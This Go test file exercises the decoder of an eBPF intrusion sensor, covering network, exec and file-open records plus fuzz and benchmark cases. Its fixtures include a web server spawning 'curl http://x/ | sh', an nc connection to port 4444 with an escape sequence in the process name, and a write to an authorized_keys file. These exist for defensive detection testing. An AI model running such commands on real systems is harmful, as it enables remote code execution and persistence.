//go:build linux

package kernel

import (
	"bytes"
	"encoding/binary"
	"net/netip"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
	"unsafe"

	"github.com/attackmap/attackmap/bpf"
	"github.com/attackmap/attackmap/sensor/event"
)

// The decoder's offsets must be the C structs' (as bpf2go saw them).
func TestRecordLayoutMatchesGeneratedTypes(t *testing.T) {
	var n bpf.CollectorNetEvent
	var x bpf.CollectorExecEvent
	var o bpf.CollectorOpenEvent
	for _, c := range []struct {
		name      string
		got, want uintptr
	}{
		{"net size", netEventSize, unsafe.Sizeof(n)},
		{"net kind", offKind, unsafe.Offsetof(n.Kind)},
		{"net ipver", netIPVer, unsafe.Offsetof(n.Ipver)},
		{"net lport", netLPort, unsafe.Offsetof(n.Lport)},
		{"net rport", netRPort, unsafe.Offsetof(n.Rport)},
		{"net proto", netProto, unsafe.Offsetof(n.Proto)},
		{"net pid", netPID, unsafe.Offsetof(n.Pid)},
		{"net uid", netUID, unsafe.Offsetof(n.Uid)},
		{"net laddr", netLAddr, unsafe.Offsetof(n.Laddr)},
		{"net raddr", netRAddr, unsafe.Offsetof(n.Raddr)},
		{"net comm", netComm, unsafe.Offsetof(n.Comm)},
		{"exec size", execEventSize, unsafe.Sizeof(x)},
		{"exec kind", offKind, unsafe.Offsetof(x.Kind)},
		{"exec flags", execFlags, unsafe.Offsetof(x.Flags)},
		{"exec args_len", execArgsLen, unsafe.Offsetof(x.ArgsLen)},
		{"exec pid", execPID, unsafe.Offsetof(x.Pid)},
		{"exec ppid", execPPID, unsafe.Offsetof(x.Ppid)},
		{"exec uid", execUID, unsafe.Offsetof(x.Uid)},
		{"exec comm", execComm, unsafe.Offsetof(x.Comm)},
		{"exec pcomm", execPComm, unsafe.Offsetof(x.Pcomm)},
		{"exec path", execPath, unsafe.Offsetof(x.Path)},
		{"exec args", execArgs, unsafe.Offsetof(x.Args)},
		{"exec args max", execArgsMax, unsafe.Sizeof(x.Args)},
		{"open size", openEventSize, unsafe.Sizeof(o)},
		{"open kind", offKind, unsafe.Offsetof(o.Kind)},
		{"open flags", openFlags, unsafe.Offsetof(o.Flags)},
		{"open pid", openPID, unsafe.Offsetof(o.Pid)},
		{"open uid", openUID, unsafe.Offsetof(o.Uid)},
		{"open comm", openComm, unsafe.Offsetof(o.Comm)},
		{"open path", openPath, unsafe.Offsetof(o.Path)},
		{"path max", pathMax, unsafe.Sizeof(o.Path)},
		{"comm len", commLen, unsafe.Sizeof(o.Comm)},
	} {
		if c.got != c.want {
			t.Errorf("%s: decoder uses %d, C struct has %d", c.name, c.got, c.want)
		}
	}
	var r bpf.CollectorOpenRule
	if len(r.Prefix) != maxRulePrefix+1 || len(r.Tail) != maxRuleTail+1 {
		t.Errorf("rule buffers %d/%d, want %d/%d", len(r.Prefix), len(r.Tail), maxRulePrefix+1, maxRuleTail+1)
	}
}

func cstr[T ~int8 | ~uint8](dst []T, s string) {
	for i := range min(len(s), len(dst)) {
		dst[i] = T(s[i])
	}
}

func encode(t testing.TB, v any) []byte {
	var b bytes.Buffer
	if err := binary.Write(&b, binary.LittleEndian, v); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var testDecoder = decoder{bootOffset: func() int64 { return 1_000_000_000_000_000_000 }}

func TestDecode(t *testing.T) {
	ts := time.Unix(0, 1_000_000_000_000_000_000+5).UTC()

	probe := bpf.CollectorNetEvent{TsNs: 5, Kind: evProbe, Proto: ipprotoTCP, Ipver: 4, Lport: 22, Rport: 40000}
	copy(probe.Laddr[:], []byte{10, 0, 0, 1})
	copy(probe.Raddr[:], []byte{185, 220, 101, 34})

	udp := probe
	udp.Proto, udp.Lport, udp.Rport = ipprotoUDP, 161, 53211

	acc6 := bpf.CollectorNetEvent{TsNs: 5, Kind: evAccept, Proto: ipprotoTCP, Ipver: 6, Lport: 443, Rport: 50000}
	acc6.Laddr = netip.MustParseAddr("2001:db8::1").As16()
	acc6.Raddr = netip.MustParseAddr("::ffff:198.51.100.7").As16() // IPv4 on an IPv6 socket

	con := bpf.CollectorNetEvent{TsNs: 5, Kind: evConnect, Proto: ipprotoTCP, Ipver: 4, Lport: 0, Rport: 4444, Pid: 77, Uid: 0}
	copy(con.Laddr[:], []byte{10, 0, 0, 1})
	copy(con.Raddr[:], []byte{203, 0, 113, 9})
	cstr(con.Comm[:], "nc\x1b[31m")

	ex := bpf.CollectorExecEvent{TsNs: 5, Kind: evExec, Pid: 10, Ppid: 1, Uid: 33}
	cstr(ex.Comm[:], "sh")
	cstr(ex.Pcomm[:], "apache2")
	cstr(ex.Path[:], "/bin/sh")
	args := "sh\x00-c\x00curl http://x/\xff | sh\x00"
	cstr(ex.Args[:], args)
	ex.ArgsLen = uint16(len(args))

	exCut := ex
	exCut.Flags = flagArgsTruncated
	exCut.ArgsLen = 9 // "sh\0-c\0cur"

	op := bpf.CollectorOpenEvent{TsNs: 5, Kind: evOpen, Flags: flagWrite, Pid: 12, Uid: 1000}
	cstr(op.Comm[:], "bash")
	cstr(op.Path[:], "/home/bob/.ssh/authorized_keys")

	u := func(v uint32) *uint32 { return &v }
	for _, c := range []struct {
		name string
		rec  any
		want event.Event
		lane lane
	}{
		{"probe: the knocker is the source", probe, event.Event{TS: ts, Kind: "probe", Source: "ebpf", Proto: "tcp",
			SrcIP: netip.MustParseAddr("185.220.101.34"), SrcPort: 40000, DstIP: netip.MustParseAddr("10.0.0.1"), DstPort: 22}, laneNet},
		{"UDP probe: port unreachable for the prober's datagram", udp, event.Event{TS: ts, Kind: "probe", Source: "ebpf", Proto: "udp",
			SrcIP: netip.MustParseAddr("185.220.101.34"), SrcPort: 53211, DstIP: netip.MustParseAddr("10.0.0.1"), DstPort: 161}, laneNet},
		{"accept over IPv6, mapped IPv4 peer unmapped", acc6, event.Event{TS: ts, Kind: "accept", Source: "ebpf", Proto: "tcp",
			SrcIP: netip.MustParseAddr("198.51.100.7"), SrcPort: 50000, DstIP: netip.MustParseAddr("2001:db8::1"), DstPort: 443}, laneNet},
		{"connect: we are the source, comm escaped", con, event.Event{TS: ts, Kind: "connect", Source: "ebpf", Proto: "tcp",
			PID: 77, UID: u(0), Comm: `nc\x1b[31m`,
			SrcIP: netip.MustParseAddr("10.0.0.1"), DstIP: netip.MustParseAddr("203.0.113.9"), DstPort: 4444}, laneNet},
		{"exec with invalid UTF-8 in argv", ex, event.Event{TS: ts, Kind: "exec", Source: "ebpf", PID: 10, PPID: 1, UID: u(33),
			Comm: "sh", ParentComm: "apache2", Path: "/bin/sh", Argv: []string{"sh", "-c", "curl http://x/\uFFFD | sh"}}, laneProc},
		{"exec with argv cut by the kernel", exCut, event.Event{TS: ts, Kind: "exec", Source: "ebpf", PID: 10, PPID: 1, UID: u(33),
			Comm: "sh", ParentComm: "apache2", Path: "/bin/sh", Argv: []string{"sh", "-c", "cur…"}}, laneProc},
		{"open for writing", op, event.Event{TS: ts, Kind: "open", Source: "ebpf", PID: 12, UID: u(1000),
			Comm: "bash", Path: "/home/bob/.ssh/authorized_keys", Detail: "write"}, laneProc},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, ln, err := testDecoder.decode(encode(t, c.rec))
			if err != nil {
				t.Fatal(err)
			}
			if ln != c.lane {
				t.Errorf("lane %d, want %d", ln, c.lane)
			}
			if !eventsEqual(got, c.want) {
				t.Errorf("got  %+v\nwant %+v", got, c.want)
			}
		})
	}
}

func eventsEqual(a, b event.Event) bool {
	if !a.TS.Equal(b.TS) {
		return false
	}
	a.TS, b.TS = time.Time{}, time.Time{}
	return reflect.DeepEqual(a, b)
}

func TestDecodeRejectsBadRecords(t *testing.T) {
	full := encode(t, bpf.CollectorNetEvent{Kind: evProbe, Proto: ipprotoTCP, Ipver: 4})
	badVer := encode(t, bpf.CollectorNetEvent{Kind: evProbe, Proto: ipprotoTCP, Ipver: 5})
	for name, rec := range map[string][]byte{
		"empty":              nil,
		"header only":        full[:8],
		"short net record":   full[:40],
		"short exec record":  encode(t, bpf.CollectorExecEvent{Kind: evExec})[:500],
		"short open record":  encode(t, bpf.CollectorOpenEvent{Kind: evOpen})[:100],
		"unknown kind":       append(slices.Clone(full[:8]), 99),
		"unknown IP version": badVer,
		"no protocol":        encode(t, bpf.CollectorNetEvent{Kind: evProbe, Ipver: 4}),
		"SCTP probe":         encode(t, bpf.CollectorNetEvent{Kind: evProbe, Proto: 132, Ipver: 4}),
		"UDP accept":         encode(t, bpf.CollectorNetEvent{Kind: evAccept, Proto: ipprotoUDP, Ipver: 4}),
	} {
		t.Run(name, func(t *testing.T) {
			_, _, err := testDecoder.decode(rec)
			if err == nil {
				t.Fatal("no error")
			}
			if strings.Contains(err.Error(), "\n") || !strings.HasPrefix(err.Error(), "kernel: ") {
				t.Errorf("error %q: want one line with the package prefix", err)
			}
		})
	}
}

func FuzzDecode(f *testing.F) {
	// Seeds: one valid record of each layout (also in testdata/fuzz).
	probe := bpf.CollectorNetEvent{Kind: evProbe, Proto: ipprotoTCP, Ipver: 6, Lport: 22, Rport: 1}
	f.Add(encode(f, probe))
	probe.Proto, probe.Ipver = ipprotoUDP, 4
	f.Add(encode(f, probe))
	ex := bpf.CollectorExecEvent{Kind: evExec, ArgsLen: 8}
	cstr(ex.Args[:], "a\x00b\x00c\xff\x00")
	f.Add(encode(f, ex))
	f.Add(encode(f, bpf.CollectorOpenEvent{Kind: evOpen}))
	f.Fuzz(func(t *testing.T, rec []byte) {
		ev, ln, err := testDecoder.decode(rec)
		if err != nil {
			return
		}
		if ln != laneNet && ln != laneProc {
			t.Fatalf("lane %d", ln)
		}
		if ev.Source != event.SourceEBPF || !slices.Contains(kinds[:], ev.Kind) {
			t.Fatalf("event %+v", ev)
		}
		texts := append([]string{ev.Comm, ev.ParentComm, ev.Path}, ev.Argv...)
		for _, s := range texts {
			if !utf8.ValidString(s) || strings.ContainsAny(s, "\x00\n\r") {
				t.Fatalf("unsafe text %q", s)
			}
		}
		if len(ev.Comm) > maxCommText || len(ev.ParentComm) > maxCommText || len(ev.Path) > maxPathText || len(ev.Argv) > maxArgs {
			t.Fatalf("uncapped field in %+v", ev)
		}
		for _, a := range ev.Argv {
			if len(a) > maxArgText+len("…") {
				t.Fatalf("uncapped argument of %d bytes", len(a))
			}
		}
		if ev.Kind == event.KindProbe || ev.Kind == event.KindAccept || ev.Kind == event.KindConnect {
			if !ev.SrcIP.IsValid() || !ev.DstIP.IsValid() {
				t.Fatalf("network event without addresses: %+v", ev)
			}
		}
	})
}

// BenchmarkDecode: the reader's user-space cost per record.
func BenchmarkDecode(b *testing.B) {
	probe := bpf.CollectorNetEvent{Kind: evProbe, Proto: ipprotoTCP, Ipver: 4, Lport: 22, Rport: 40000}
	con := bpf.CollectorNetEvent{Kind: evConnect, Proto: ipprotoTCP, Ipver: 6, Rport: 443, Pid: 1}
	cstr(con.Comm[:], "curl")
	ex := bpf.CollectorExecEvent{Kind: evExec, ArgsLen: 20}
	cstr(ex.Path[:], "/usr/bin/curl")
	cstr(ex.Args[:], "curl\x00-s\x00http://x/\x00")
	for _, c := range []struct {
		name string
		rec  any
	}{{"probe", probe}, {"connect", con}, {"exec", ex}} {
		rec := encode(b, c.rec)
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, _, err := testDecoder.decode(rec); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
